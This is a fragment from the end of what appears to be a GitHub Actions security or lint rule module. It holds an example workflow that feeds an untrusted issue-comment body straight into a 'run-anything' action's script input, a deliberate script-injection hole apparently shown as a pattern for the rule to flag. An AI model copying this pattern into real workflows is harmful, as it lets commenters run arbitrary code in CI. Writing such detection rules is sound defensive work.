              - uses: peter-evans/create-or-update-comment@v4
                with:
                  body: \${{ github.event.comment.body }}
              - uses: someone/run-anything@v1
                with:
                  script: \${{ github.event.comment.body }}
      `,
    },
  ],
};

export default rule;
